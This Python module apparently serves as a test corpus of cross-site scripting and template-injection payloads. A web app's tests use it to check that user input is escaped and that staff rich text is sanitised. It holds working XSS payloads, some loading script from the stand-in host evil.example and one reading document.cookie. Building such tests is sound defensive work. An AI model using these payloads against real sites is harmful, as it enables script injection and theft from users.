"""A corpus of cross-site scripting payloads, grouped by the trick each one plays.

Every payload that could run calls one of the hooks the browser test watches
(`alert`, `confirm`, `prompt`, `print`, or the global `__xss`), so a payload that
executes in a real browser is noticed, not just one that shows a dialog.

Plain-text inputs must show each payload as the very text that was typed; staff rich
text (nh3) must keep nothing of it that can run. The groups are kept apart so that a
failure says which kind of trick got through.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script>/*<!--*/confirm(1)//--></script>",
    '<script type="text/javascript">prompt(1)</script>',
    "<script\ntype=text/javascript>alert(1)</script>",
    "<script/any src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>alert`1`</script>",
    "</script><script>__xss()</script>",
    "<script>window.__xss=document.cookie</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script async defer>print()</script>",
    "<script>setTimeout('alert(1)',0)</script>",
    "<script >alert(1)</script >",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src=1 onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror\t=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    '<img src=x onerror="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<body onpageshow=__xss()>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=confirm(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=prompt(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<a onmouseover=alert(1) href=#>link</a>",
    "<p onclick=alert(1)>click me</p>",
    "<b onpointerenter=alert(1)>bold</b>",
    "<strong onmouseover=alert&#40;1&#41;>strong</strong>",
    "<table><tr><td onmouseover=alert(1)>cell</td></tr></table>",
    "<table><caption onmouseover=alert(1)>caption</caption></table>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1)></object>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<h2 onanimationstart=alert(1) style="animation-name:x">heading</h2>',
    "<blockquote oncopy=alert(1)>copy me</blockquote>",
    "<ul><li tabindex=1 autofocus onfocus=alert(1)>item</li></ul>",
    "<hr onmouseover=alert(1)>",
    "<figure onclick=alert(1)><img src=x onerror=__xss()></figure>",
    '<a href="#" onclick="window.__xss=1;return false">click</a>',
    "<div/onmouseover='alert(1)'>x",
    "<xss onfocus=alert(1) autofocus tabindex=1>custom element</xss>",
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline entity</a>',
    '<a href="java\tscript:alert(1)">raw tab</a>',
    '<a href="javas&Tab;cript:alert(1)">named tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">padded</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">entities everywhere</a>',
    "<a href=javascript:window.__xss=1>unquoted</a>",
    '<a href="javascript://%0Aalert(1)">comment then newline</a>',
    '<a href="\x01javascript:alert(1)">control character</a>',
    '<a href="  &#14;  javascript:alert(1)">shift-out</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBScript:MsgBox(1)">VB</a>',
    '<a href="livescript:alert(1)">livescript</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data64</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">DATA</a>',
    '<a href="feed:javascript:alert(1)">feed</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="vbscript:msgbox(1)">',
    '<a href="https://example.org/" onclick="alert(1)">looks fine</a>',
    '<a href="https://example.org/" title="x" style="position:fixed;inset:0">overlay</a>',
    '<img src="https://example.org/a.png" alt="x" onload="alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>bg</td></tr></table>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<a href=\"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>"
    'alert(1)</x:script>">xhtml</a>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/>'
    "<a id=x><text y=20>click</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></set></svg>",
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    "</foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><image href=x onerror=alert(1)></image></svg>",
    "<svg><discard onbegin=alert(1)></discard></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction>'
    "</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMu'
    'b3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
]

EMBEDDING = [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    "<frameset onload=alert(1)>",
    '<applet code="x" codebase="javascript:alert(1)"></applet>',
    '<portal src="javascript:alert(1)"></portal>',
]

STYLES = [
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1))">IE expression</div>',
    '<p style="background-image:url(javascript:alert(1))">css url</p>',
    '<p style="behavior: url(xss.htc)">behavior</p>',
    '<div style="-moz-binding:url(https://evil.example/xss.xml#x)">binding</div>',
    r"<style>*{x:expr\ession(alert(1))}</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    r'<p style="x:\65 xpression(alert(1))">escaped expression</p>',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">x</b>',
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)//",
    "<script>alert(1)",
    '<img """><script>alert(1)</script>">',
    '<a href="javascript:alert(1)',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<p <script>alert(1)</script>>text</p>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<x onxxx=alert(1) 1='",
    "</noscript><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
]

ATTRIBUTE_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><img src=x onerror=alert(1)>',
    "</script><img src=x onerror=alert(1)>",
    '\\"><script>alert(1)</script>',
    '"; alert(1); //',
    "'-alert(1)-'",
    "`-alert(1)-`",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}{{ log }}",
    "{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% csrf_token %}",
    "{{ block.super }}{% include 'base.html' %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]

POLYGLOTS = [
    "\"'--></style></script></textarea></title><svg/onload=alert(1)>",
    "javascript:/*--></title></style></textarea></script><img src=x onerror=alert(1)>*/alert(1)",
    '\'";!--"<XSS>=&{()}',
    '-->\'"/></sCript><deTailS open x=">" onToggle=alert(1)>',
    "jaVasCript:/*-/*`/*'/*\"/**/(/* */onclick=alert(1) )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss()//>\\x3e",
    "\"><svg onload=alert(1)>'><img src=x onerror=alert(1)>`><script>alert(1)</script>",
    "'\"()&%<acx><ScRiPt >prompt(1)</ScRiPt>",
    '<a href="javascript:alert(1)" id="x"><img src=x onerror=alert(1)></a>{{7*7}}${7*7}',
]

UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    r"<img src=x onerror=\u0061lert(1)>",
    '<a href="java\u200bscript:alert(1)">zero width</a>',
    '<a href="javascript\uff1aalert(1)">fullwidth colon</a>',
    "\ufeff<script>alert(1)</script>",
    "<script>alert(1)\u2028</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    r"\x3cscript\x3ealert(1)\x3c/script\x3e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert(1)>\U0001f600 emoji after",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
]

GROUPS = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "dangerous urls": DANGEROUS_URLS,
    "svg and mathml": SVG_AND_MATHML,
    "embedding": EMBEDDING,
    "styles": STYLES,
    "broken markup": BROKEN_MARKUP,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "template injection": TEMPLATE_INJECTION,
    "polyglots": POLYGLOTS,
    "unicode tricks": UNICODE_TRICKS,
}

ALL = list(dict.fromkeys(payload for group in GROUPS.values() for payload in group))

# What a database text column can hold: no NUL byte. PostgreSQL refuses one outright,
# and every form of the site refuses it with a message, so the NUL payload is sent
# through forms and URLs (expecting a refusal) but never saved through a model.
STORABLE = [payload for payload in ALL if "\x00" not in payload]

# A sample of the worst for the real browser: one or more of every trick that a
# browser would run if it reached the page unescaped.
WORST = [
    "<script>alert(1)</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "</script><script>__xss()</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">tab entity</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "\"'--></style></script></textarea></title><svg/onload=alert(1)>",
    '-->\'"/></sCript><deTailS open x=">" onToggle=alert(1)>',
    "{{constructor.constructor('alert(1)')()}}",
]


def fitting(max_length, payloads=STORABLE):
    """The payloads short enough for a field of `max_length` characters."""
    return [payload for payload in payloads if len(payload) <= max_length]
